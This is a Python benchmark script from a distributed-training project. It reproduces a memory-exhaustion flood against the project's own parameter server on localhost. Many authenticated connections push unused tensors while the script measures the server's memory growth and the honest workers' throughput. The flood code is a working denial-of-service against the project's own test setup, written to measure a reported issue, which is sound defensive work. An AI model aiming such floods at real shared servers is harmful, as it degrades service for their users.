"""A holder of the job secret floods a server from many connections (issue 37, item 3): what the
server's memory and an honest job's push_pulls do meanwhile, against the same job unattacked.

    .venv/bin/python scripts/attack_server_memory.py [--connections 16] [--pushes 135000]

Starts a scheduler, one server and two workers on 127.0.0.1 (the workers push_pull 4 KiB
steadily and print their rate); once they run, ``--connections`` DEALERs, each with a CURVE
key of its own and the routing id that key names (as another process of the project would
present), send ``--pushes`` pushes each of a tensor nobody else pushes, and read nothing. The
server's resident memory (VmRSS) is sampled before and after; the workers' push_pulls a second
are compared with a run without the attack. Prints one table.
"""

from __future__ import annotations

import argparse
import os
import re
import subprocess
import sys
import time
from pathlib import Path

import zmq

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from bps_gossip.launch.local import free_port  # noqa: E402
from bps_gossip.launch.sessions import kill_groups, start_in_session  # noqa: E402
from bps_gossip.protocol import Push  # noqa: E402
from bps_gossip.transport.framing import send_message  # noqa: E402
from bps_gossip.transport.security import JobKeys, key_tag  # noqa: E402

SECRET = "attack-bench-" + "0123456789abcdef" * 2
WORKER = """
import os, sys, time
import numpy as np
import bps_gossip as bps
from bps_gossip import testing
bps.init()
bps.push_pull(np.ones(1, np.float32), "warm-up")
print("SERVER", testing.address_book().servers[0], flush=True)
stop, done, began = sys.argv[1], 0, time.monotonic()
while True:  # until rank 0 sees the stop file: every rank stops at the same push_pull
    x = np.ones(1024, np.float32)
    x[0] = float(bps.rank() == 0 and os.path.exists(stop))
    done += 1
    if bps.push_pull(x, "steady", average=False)[0] > 0:
        break
print("RATE", done / (time.monotonic() - began), flush=True)
bps.shutdown()
"""

def rss_mib(pid: int) -> float:
    """A process's resident memory, MiB."""
    text = Path(f"/proc/{pid}/status").read_text()
    return int(re.search(r"VmRSS:\s+(\d+)", text).group(1)) / 1024


def start_job(stop: Path, logs: Path) -> tuple[list[subprocess.Popen], subprocess.Popen, list[Path]]:
    port = free_port()
    env = {**os.environ, "BPS_GOSSIP_SECRET": SECRET, "DMLC_NUM_WORKER": "1", "DMLC_NUM_SERVER": "1",
           "BYTEPS_LOCAL_SIZE": "2", "DMLC_PS_ROOT_URI": "127.0.0.1", "DMLC_PS_ROOT_PORT": str(port),
           "PYTHONUNBUFFERED": "1", "BYTEPS_LOG_LEVEL": "WARNING"}
    procs, outs = [], []
    for role in ("scheduler", "server"):
        out = logs / f"{role}.log"
        procs.append(start_in_session([sys.executable, "-m", f"bps_gossip.{role}"], {**env, "DMLC_ROLE": role},
                                      stdout=out.open("w"), stderr=subprocess.STDOUT))
    for rank in range(2):
        out = logs / f"worker{rank}.log"
        outs.append(out)
        procs.append(start_in_session([sys.executable, "-c", WORKER, str(stop)],
                                      {**env, "DMLC_ROLE": "worker", "DMLC_WORKER_ID": "0",
                                       "BYTEPS_LOCAL_RANK": str(rank)},
                                      stdout=out.open("w"), stderr=subprocess.STDOUT))
    return procs, procs[1], outs


def wait_for(path: Path, word: str, timeout: float = 60) -> str:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        for line in path.read_text().splitlines():
            if line.startswith(word + " "):
                return line.split(" ", 1)[1]
        time.sleep(0.1)
    raise RuntimeError(f"no {word} in {path}: {path.read_text()[-2000:]}")


def attack(address: str, connections: int, pushes: int) -> float:
    """Flood ``address``; seconds it took."""
    keys = JobKeys.from_secret(SECRET)
    ctx = zmq.Context()
    socks = []
    for index in range(connections):
        public, secret = zmq.curve_keypair()
        sock = ctx.socket(zmq.DEALER)
        sock.curve_serverkey, sock.curve_publickey, sock.curve_secretkey = keys.server_public, public, secret
        sock.setsockopt(zmq.IDENTITY, f"worker-9{index}-{key_tag(public)}".encode())
        sock.setsockopt(zmq.SNDHWM, 0)
        sock.setsockopt(zmq.RCVHWM, 1)  # it reads nothing
        sock.setsockopt(zmq.LINGER, 0)
        sock.connect(address)
        socks.append(sock)
    began = time.monotonic()
    payload = b"\0" * 4
    for seq in range(pushes):
        for index, sock in enumerate(socks):
            header = Push.header(req=seq, gen=1, key=10_000 + index, name=f"attack{index}", part=0, seq=seq, count=1,
                                 wire="<f4", dtype="float32", shape=[1], kind="sum", ack=False)
            send_message(sock, header, (payload,))
    time.sleep(3)  # what is queued reaches the server
    for sock in socks:
        sock.close()
    ctx.term()
    return time.monotonic() - began


def run(attacked: bool, args: argparse.Namespace, logs: Path) -> dict[str, float]:
    stop = logs / "stop"
    stop.unlink(missing_ok=True)
    procs, server, outs = start_job(stop, logs)
    try:
        address = wait_for(outs[0], "SERVER")
        time.sleep(1)
        before = rss_mib(server.pid)
        took = attack(address, args.connections, args.pushes) if attacked else 0.0
        time.sleep(max(0.0, args.seconds - took))
        after = rss_mib(server.pid)
        stop.touch()
        rates = [float(wait_for(out, "RATE", 120)) for out in outs]
        return {"before": before, "after": after, "rate": min(rates), "took": took}
    finally:
        kill_groups(procs, grace=5)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--connections", type=int, default=16)
    parser.add_argument("--pushes", type=int, default=135_000, help="per connection")
    parser.add_argument("--seconds", type=float, default=20.0, help="how long the workers push_pull at least")
    parser.add_argument("--logs", type=Path, default=Path("/tmp/attack_server_memory"))
    args = parser.parse_args()
    args.logs.mkdir(parents=True, exist_ok=True)
    honest = run(False, args, args.logs)
    attacked = run(True, args, args.logs)
    print(f"{'run':<10} {'server MiB before':>18} {'after':>8} {'grew':>8} {'push_pulls/s':>13} {'attack s':>9}")
    for name, got in (("honest", honest), ("attacked", attacked)):
        print(f"{name:<10} {got['before']:>18.1f} {got['after']:>8.1f} {got['after'] - got['before']:>+8.1f} "
              f"{got['rate']:>13.0f} {got['took']:>9.1f}")
    print(f"attacked/honest push_pull rate: {attacked['rate'] / honest['rate']:.2f}x "
          f"({args.connections} connections x {args.pushes} pushes, nothing read)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
